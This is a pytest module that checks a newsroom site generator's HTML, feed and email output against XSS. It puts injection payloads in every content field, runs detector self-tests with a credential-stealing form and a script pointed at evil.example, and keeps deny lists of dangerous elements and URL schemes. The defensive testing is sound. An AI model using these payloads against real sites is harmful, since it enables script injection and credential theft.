"""Hostile content: classic XSS payloads in every text field reach no page, feed or email executable.

One content set carries every payload in every text field an editor can fill
(headline, summary, body, alias, headword, definition, source title, publisher
and URL, spec table cells, section and reference-section titles, tags, site and
vocabulary names). It is imported and built; then every `.html`, `.xml`,
`.atom` and `.eml` file the build produces is parsed with a real parser and
searched for anything a browser, feed reader or mail client would execute. New
outputs of those types are covered as soon as the build writes them.
"""

from __future__ import annotations

import datetime as dt
import email
import email.policy
import json
import re
import xml.etree.ElementTree as ElementTree
from pathlib import Path
from typing import Any

import html5lib
import pytest
import yaml
from sqlalchemy import create_engine, text

from tests.conftest import Cli
from tests.xss_payloads import REFUSED_URLS, TEXT_PAYLOADS, URL_PAYLOADS

#: Elements no built output may contain (ours included).
FORBIDDEN = {"script", "style", "iframe", "object", "embed", "applet", "frame", "frameset", "base", "form",
             "input", "button", "textarea", "select", "svg", "noscript", "template", "xmp"}
MATHML = "{http://www.w3.org/1998/Math/MathML}"
#: The MathML a formula may hold (MathML Core's presentation elements): nothing that links, embeds HTML or acts.
MATHML_CORE = {"math", "annotation", "merror", "mfrac", "mi", "mmultiscripts", "mn", "mo", "mover", "mpadded",
               "mphantom", "mprescripts", "mroot", "mrow", "ms", "mspace", "msqrt", "mstyle", "msub", "msubsup", "msup",
               "mtable", "mtd", "mtext", "mtr", "munder", "munderover", "semantics"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcset",
                  "xlink:href", "ping", "longdesc", "lowsrc", "dynsrc"}
DANGEROUS_SCHEME = re.compile(r"^(javascript|data|vbscript|file):", re.IGNORECASE)
OUR_REFRESH = re.compile(r"^0; url=[a-z]{2}/$")


#: Records per kind: field k of record i holds payloads i+k and i+k+RECORDS, so every field sees every payload.
RECORDS = (len(TEXT_PAYLOADS) + 1) // 2


def _p(i: int) -> str:
    return TEXT_PAYLOADS[i % len(TEXT_PAYLOADS)] + "\n\n" + TEXT_PAYLOADS[(i + RECORDS) % len(TEXT_PAYLOADS)]


def _refused_at_import(url: str) -> bool:
    """Whether import refuses the URL payload `url` (a quote or an angle bracket in it)."""
    return re.search(r'["<>]', url) is not None


def _url(i: int) -> str:
    """A payload URL as the content files give it: one import refuses as a stand-in (see _stored_urls)."""
    url = URL_PAYLOADS[i % len(URL_PAYLOADS)]
    return f"{STAND_IN}{i % len(URL_PAYLOADS)}" if _refused_at_import(url) else url


#: Where a source's URL payload that import refuses stands until it is stored (see _stored_urls).
STAND_IN = "https://stand-in.example/"


def _stored_urls(db_url: str) -> None:
    """Put each refused URL payload where its stand-in is, straight into the database, as records stored
    before such URLs were refused hold them."""
    engine = create_engine(db_url)
    with engine.begin() as connection:
        for table in ("entries", "pages", "stories"):
            rows = connection.execute(text(f"SELECT id, sources FROM {table}")).all()  # noqa: S608 - our names
            for row_id, stored in rows:
                sources = json.loads(stored) if isinstance(stored, str) else stored
                for source in sources or ():
                    if source["url"].startswith(STAND_IN):
                        source["url"] = URL_PAYLOADS[int(source["url"].removeprefix(STAND_IN))]
                connection.execute(text(f"UPDATE {table} SET sources = :sources WHERE id = :id"),  # noqa: S608
                                   {"sources": json.dumps(sources), "id": row_id})
    engine.dispose()


def _sources(i: int) -> list[dict[str, str]]:
    return [{"publisher": _p(i + 1), "title": _p(i + 2), "url": _url(i)},
            {"publisher": _p(i + 3), "title": _p(i + 4), "url": "https://example.org/ok"}]


def _site(n: int) -> dict[str, Any]:
    vocabulary = lambda slugs, at: [{"slug": s, "hu": _p(at + k), "en": _p(at + k + 1)}  # noqa: E731
                                    for k, s in enumerate(slugs)]
    return {"kind": "site", "sections": vocabulary(["code", "money", "policy"], 0),
            "categories": vocabulary(["infrastructure", "models"], 5),
            "audiences": vocabulary(["developer", "investor"], 9),
            "hu": {"name": _p(12), "tagline": _p(13), "greeting": _p(16)},
            "en": {"name": _p(14), "tagline": _p(15), "greeting": _p(17)}}


def _entry(i: int) -> dict[str, Any]:
    def texts(k: int) -> dict[str, Any]:
        return {"headword": f"Szó {i} {_p(i + k)}", "definition": _p(i + k + 1) + " [1]", "plain_terms": _p(i + k + 2),
                "analogy": _p(i + k + 3), "how_it_works": [_p(i + k + 4), _p(i + k + 5)], "example": _p(i + k + 6),
                "affected": [{"audiences": ["developer"], "text": _p(i + k + 7), "section": "code"}],
                "misconception": {"myth": _p(i + k + 8), "reality": _p(i + k + 9)}, "limits": _p(i + k + 10),
                "history": _p(i + k + 11), "current_state": _p(i + k + 12),
                "aliases": [_p(i + k + 13), f"alias{i}"], "match_forms": [f"form{i}"]}
    return {"kind": "entry", "slug": f"x-{i}", "category": "infrastructure", "level": "basic", "trend": "emerging",
            "english_term": _p(i + 20), "status": "2026-10",
            "relations": {"related": [f"x-{(i + 1) % RECORDS}"],
                          "similar": [{"entry": f"x-{(i + 2) % RECORDS}",
                                       "note": {"hu": _p(i + 21), "en": _p(i + 22)}}]},
            "sources": _sources(i), "provenance": {"method": "machine-edited", "review": "editor-review"},
            "hu": texts(0), "en": texts(1)}


def _reference(i: int) -> dict[str, Any]:
    def texts(k: int) -> dict[str, Any]:
        table = {"columns": [_p(i + k), _p(i + k + 1)],
                 "rows": [[_p(i + k + 2), {"value": _p(i + k + 3), "source": 1}],
                          [_p(i + k + 5), {"not_published": _p(i + k + 4)}]]}
        return {"title": _p(i + k + 6), "summary": _p(i + k + 7),
                "sections": [{"title": _p(i + k + 8), "simple": {"text": _p(i + k + 9) + " [1]", "table": table,
                                                                 "after": _p(i + k + 10)},
                              "deep": {"text": _p(i + k + 11)}}]}
    return {"kind": "reference", "slug": f"r-{i}", "sources": _sources(i), "hu": texts(0), "en": texts(1)}


def _page(i: int) -> dict[str, Any]:
    return {"kind": "page", "slug": "method" if i == 0 else f"p-{i}",
            "hu": {"title": _p(i), "summary": _p(i + 1), "body": _p(i + 2)},
            "en": {"title": _p(i + 3), "summary": _p(i + 4), "body": _p(i + 5)}}


def _issue(i: int) -> dict[str, Any]:
    start = dt.date(2026, 1, 5) + dt.timedelta(weeks=i)
    return {"kind": "issue", "number": i + 1,
            "week": {"start": start.isoformat(), "end": (start + dt.timedelta(days=6)).isoformat()},
            "status": "published", "published_at": f"{start + dt.timedelta(days=7)}T07:00:00+01:00",
            "hu": {"title": _p(i), "lead": _p(i + 1), "editor_note": _p(i + 2)},
            "en": {"title": _p(i + 3), "lead": _p(i + 4), "editor_note": _p(i + 5)}}


def _story(i: int) -> dict[str, Any]:
    return {"kind": "story", "slug": f"s-{i}", "issue": i + 1, "section": ("code", "money", "policy")[i % 3],
            "position": 1, "tags": [_p(i), _p(i + 1)], "audiences": ["investor"], "terms": [f"x-{i}"],
            "sources": _sources(i),
            "hu": {"headline": _p(i + 2), "summary": _p(i + 3) + " [1]", "body": _p(i + 4)},
            "en": {"headline": _p(i + 5), "summary": _p(i + 6) + " [2]", "body": _p(i + 7)}}


def hostile_content(folder: Path) -> Path:
    """Write the corpus content set: every payload lands in every kind of text field at least once."""
    records = [("site.yaml", _site(0))]
    for i in range(RECORDS):
        records += [(f"entries/x-{i}.yaml", _entry(i)), (f"reference/r-{i}.yaml", _reference(i)),
                    (f"pages/p-{i}.yaml", _page(i)), (f"issues/{i + 1:04d}.yaml", _issue(i)),
                    (f"stories/s-{i}.yaml", _story(i))]
    for relative, record in records:
        path = folder / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:  # the folder holding _site and _email
    """The hostile content set, imported and built (with drafts and emails) once, on SQLite: sanitising is backend-free."""
    work = tmp_path_factory.mktemp("xss")
    cli = Cli(f"sqlite:///{work / 'xss.db'}", work)
    cli("init")
    cli("import", str(hostile_content(work / "content")))
    _stored_urls(cli.db_url)
    cli("build", "--out", str(work / "_site"), "--base-url", "https://news.example/", "--drafts",
        "--email-out", str(work / "_email"))
    return work


def _template_blocks() -> set[str]:
    """The literal text of every <script> and <style> our templates write: those are ours."""
    from newsroom.render.html import TEMPLATES

    blocks = set()
    for template in TEMPLATES.rglob("*.html"):
        for match in re.finditer(r"<(script|style)\b[^>]*>(.*?)</\1>", template.read_text(encoding="utf-8"), re.S):
            if "{{" not in match.group(2) and "{%" not in match.group(2):
                blocks.add(match.group(2).strip())
    return blocks


OURS = _template_blocks()
DANGEROUS_STYLE = re.compile(r"url\(|expression\(|javascript:|@import|behavior|position\s*:\s*fixed", re.I)


def _template_tags() -> dict[str, list[dict[str, str | None]]]:
    """Start tags of forms, inputs, buttons, scripts and noscripts in our templates: {tag: [{attribute: literal or None}]}.

    None stands for a value the template fills in (its URL is still checked like any other).
    """
    from newsroom.render.html import TEMPLATES

    found: dict[str, list[dict[str, str | None]]] = {}
    for template in TEMPLATES.rglob("*.html"):
        text = template.read_text(encoding="utf-8")
        for match in re.finditer(r"<(form|input|button|script|noscript)\b([^>]*)>", text):
            attributes = {name: (None if "{" in (value or "") else (value or ""))
                          for name, value in re.findall(r'([a-z-]+)(?:="([^"]*)")?', match.group(2))}
            found.setdefault(match.group(1), []).append(attributes)
    return found


OUR_TAGS = _template_tags()


def _ours(tag: str, element: Any) -> bool:
    """An element the templates wrote: a literal block, JSON-LD that is only JSON, or a template's own tag."""
    body = (element.text or "").strip()
    if tag == "script" and element.get("type") == "application/ld+json":
        try:
            json.loads(body)
        except ValueError:
            return False
        return len(element) == 0
    if tag in ("script", "style") and body:
        return body in OURS and len(element) == 0
    attributes = {name.lower(): value for name, value in element.attrib.items()}
    return any(set(attributes) == set(signature) and all(v is None or attributes[k] == v for k, v in signature.items())
               for signature in OUR_TAGS.get(tag, []))


def _html_problems(document: Any, where: str, *, email_css: bool = False) -> list[str]:
    """Everything executable or injected in one parsed HTML tree (`email_css`: inlined style attributes allowed)."""
    problems = []
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rsplit("}", 1)[-1].lower()
        problems += _mathml_problems(element, tag, where)
        email_style = email_css and tag == "style" and not DANGEROUS_STYLE.search(element.text or "")
        if tag in FORBIDDEN and not email_style and not _ours(tag, element):
            problems.append(f"{where}: <{tag}> element")
        if tag == "meta" and element.get("http-equiv", "").lower() == "refresh" \
                and not OUR_REFRESH.match(element.get("content", "")):
            problems.append(f"{where}: meta refresh to {element.get('content')!r}")
        if tag == "link" and element.get("rel", "") not in ("canonical", "alternate", "stylesheet"):
            problems.append(f"{where}: <link rel={element.get('rel')!r}>")
        problems += _attribute_problems(tag, element, where, email_css)
        if tag == "a" and element.get("href", "").startswith(("http:", "https:")) \
                and not element.get("href", "").startswith("https://news.example/"):
            if "noopener" not in element.get("rel", "").split():
                problems.append(f"{where}: outside link without rel=noopener: {element.get('href')!r}")
    return problems


def _mathml_problems(element: Any, tag: str, where: str) -> list[str]:
    """A MathML element that is not MathML Core's, one with a URL, or an element of another kind inside one."""
    if not element.tag.startswith(MATHML):
        return []
    problems = [f"{where}: MathML <{tag}>"] if tag not in MATHML_CORE else []
    problems += [f"{where}: <{tag} {name}>" for name in element.attrib if name.rsplit("}", 1)[-1] in URL_ATTRIBUTES]
    return problems + [f"{where}: <{child.tag}> in MathML <{tag}>" for child in element
                       if isinstance(child.tag, str) and not child.tag.startswith(MATHML)]


def _attribute_problems(tag: str, element: Any, where: str, email_css: bool = False) -> list[str]:
    problems = []
    for name, value in element.attrib.items():
        name = name.rsplit("}", 1)[-1].lower()
        if name == "style" and email_css and not DANGEROUS_STYLE.search(value):
            continue
        if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
            problems.append(f"{where}: <{tag} {name}={value!r}>")
        if name in URL_ATTRIBUTES and DANGEROUS_SCHEME.match(re.sub(r"[\x00-\x20]", "", value)):
            problems.append(f"{where}: <{tag} {name}={value!r}>")
    return problems


def _parse_html(data: bytes | str) -> Any:
    return html5lib.parse(data, treebuilder="etree", namespaceHTMLElements=False)


#: Feed elements whose text a reader renders as HTML: RSS description and content:encoded, and RSS title, which
#: RSS does not type and some readers (feedparser among them) render when it looks like HTML; Atom type="html".
RSS_HTML = {"title", "description", "{http://purl.org/rss/1.0/modules/content/}encoded"}


def _xml_problems(path: Path, where: str) -> list[str]:
    """A feed or sitemap: well-formed, no handlers or bad URLs anywhere, and its HTML-typed texts harmless."""
    root = ElementTree.parse(path).getroot()  # our own output: a parse error is a failure
    problems = []
    for element in root.iter():
        tag = element.tag.rsplit("}", 1)[-1]
        problems += _attribute_problems(tag, element, where)
        as_html = element.tag in RSS_HTML if root.tag == "rss" else element.get("type") in ("html", "xhtml")
        if as_html:
            fragment = ElementTree.tostring(element, encoding="unicode") if element.get("type") == "xhtml" \
                else (element.text or "")
            problems += _html_problems(_parse_html(fragment), f"{where} (HTML in <{tag}>)")
    return problems


def _eml_problems(path: Path, where: str) -> list[str]:
    message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
    problems = [f"{where}: injected header {name}" for name in message.keys()
                if name.lower() in ("bcc", "x-injected")]
    for part in message.walk():
        if part.get_content_type() == "text/html":
            problems += _html_problems(_parse_html(part.get_content()), where, email_css=True)
    return problems


def test_the_corpus_puts_every_payload_in_every_field():
    assert len(TEXT_PAYLOADS) >= 40 and all(TEXT_PAYLOADS)


def test_no_output_carries_an_executable_payload(built):
    checked: dict[str, int] = {}
    problems: list[str] = []
    for path in sorted([*(built / "_site").rglob("*"), *(built / "_email").rglob("*")]):
        where = str(path.relative_to(built))
        if path.suffix == ".html":
            problems += _html_problems(_parse_html(path.read_bytes()), where, email_css=where.startswith("_email"))
        elif path.suffix in (".xml", ".atom"):
            problems += _xml_problems(path, where)
        elif path.suffix == ".eml":
            problems += _eml_problems(path, where)
        else:
            continue
        checked[path.suffix] = checked.get(path.suffix, 0) + 1
    assert checked.get(".html", 0) > 5 * RECORDS
    assert checked.get(".xml", 0) > 1 and checked.get(".atom", 0) > 1 and checked.get(".eml", 0) >= 1, checked
    assert problems == []


def test_payload_text_is_shown_as_text(built):
    """Escaped, not dropped: a reader sees what the editor typed in a plain text field."""
    page = (built / "_site" / "en" / "glossary" / "x-0" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_the_checker_sees_what_it_must():
    """The detector itself: each of these must be reported, or a passing corpus test means nothing."""
    bad = ('<p onclick="x()">a</p><a href=" java\tscript:x">b</a><a href="https://evil.example/">c</a>'
           '<img src="data:image/png;base64,AA"><iframe></iframe><div style="x">d</div><script>1</script>'
           '<meta http-equiv="refresh" content="0;url=javascript:x">')
    assert len(_html_problems(_parse_html(bad), "t")) == 8
    assert len(_html_problems(_parse_html('<script type="application/ld+json">{"a": 1}</script><script>x</script>'),
                              "t")) == 1
    injected = '<form action="https://evil.example/"><input name="pw"></form><script src="https://evil.example/x.js">'
    assert len(_html_problems(_parse_html(injected), "t")) == 3
    formula = '<math><maction><mi>x</mi></maction><mi href="https://evil.example/">y</mi><mtext><b>z</b></mtext></math>'
    assert len(_html_problems(_parse_html(formula), "t")) == 3


@pytest.fixture
def sqlite_cli(tmp_path: Path) -> Cli:
    """Validation refuses these before any database work, so one backend is enough."""
    cli = Cli(f"sqlite:///{tmp_path / 'refuse.db'}", tmp_path)
    cli("init")
    return cli


@pytest.mark.parametrize("url, says", [
    *((url, "sources[0].url: expected an http(s) or mailto URL") for url in REFUSED_URLS),
    *((url, "sources[0].url: a URL holds no ") for url in URL_PAYLOADS if _refused_at_import(url)),
])
def test_a_dangerous_source_url_is_refused_at_import(sqlite_cli, write_files, url, says):
    """A scheme that runs, or a URL that would break out of its attribute (quotes, angle brackets)."""
    record = _story(0)
    record["sources"][0]["url"] = url
    folder = write_files({"stories/s-0.yaml": yaml.safe_dump(record)})
    result = sqlite_cli("import", str(folder), expect=1)
    assert f"{folder / 'stories' / 's-0.yaml'}:" in result.stderr
    assert says in result.stderr, result.stderr
    # The URL is one problem, named once; the empty database's other refusals of the story (its unknown
    # audience, section and issue) come with it, all in one run.
    assert [line for line in result.stderr.splitlines() if "sources[" in line] == \
        [next(line for line in result.stderr.splitlines() if says in line)]
    assert result.stderr.endswith(" errors; nothing was changed\n")


@pytest.mark.parametrize("key", ["<script>alert(1)</script>", "onload", "\"><img src=x onerror=alert(1)>"])
def test_a_payload_as_a_yaml_key_is_an_unknown_field(sqlite_cli, write_files, key):
    folder = write_files({"pages/p.yaml": yaml.safe_dump(
        {"kind": "page", "slug": "p", key: "x", "en": {"title": "T", key: "y"}})})
    result = sqlite_cli("import", str(folder), expect=1)
    assert result.stderr.count("unknown field") == 2


def test_the_url_payloads_stored_reach_the_pages_as_hrefs_and_nothing_more(built):
    """The stored payloads are where readers see sources: each is one href, whole, breaking out of nothing."""
    hrefs = {element.get("href") for page in (built / "_site").rglob("*.html")
             for element in _parse_html(page.read_bytes()).iter("a")}
    assert set(URL_PAYLOADS) <= hrefs


#: A Markdown link the pages show as its Markdown (a scheme markdown-it never links), as the corpus writes them.
REFUSED_LINK = re.compile(r"\]\((?:javascript|data|vbscript):", re.IGNORECASE)


def test_a_link_the_pages_refuse_reads_as_its_text_in_every_plain_text(built):
    """Search snippets, feed summaries and meta descriptions read `[click](javascript:…)` as "click", as they
    read a link the pages show (the email's text part: see tests/test_email.py)."""
    import feedparser

    # (A reference or site page's summary is plain text, shown as written: the Markdown ones are read here.)
    snippets = [doc[3] for path in (built / "_site").glob("*/search/index/docs/*.json")
                for doc in json.loads(path.read_text(encoding="utf-8")) if doc[0] != "reference"]
    summaries = [item.get("summary", "") for path in (built / "_site").glob("*/feeds/*.atom")
                 for item in feedparser.parse(path.read_bytes()).entries if item.get("summary_detail", {}).get("type")
                 == "text/plain"]  # (an entry's content is its HTML, as on its page)
    descriptions = [meta.get("content") or "" for page in (built / "_site").glob("*/glossary/*/index.html")
                    for meta in _parse_html(page.read_bytes()).iter("meta") if meta.get("name") == "description"]
    for name, found in (("snippets", snippets), ("summaries", summaries), ("descriptions", descriptions)):
        assert found and any("click" in text for text in found), name
        assert [text for text in found if REFUSED_LINK.search(text)] == [], name
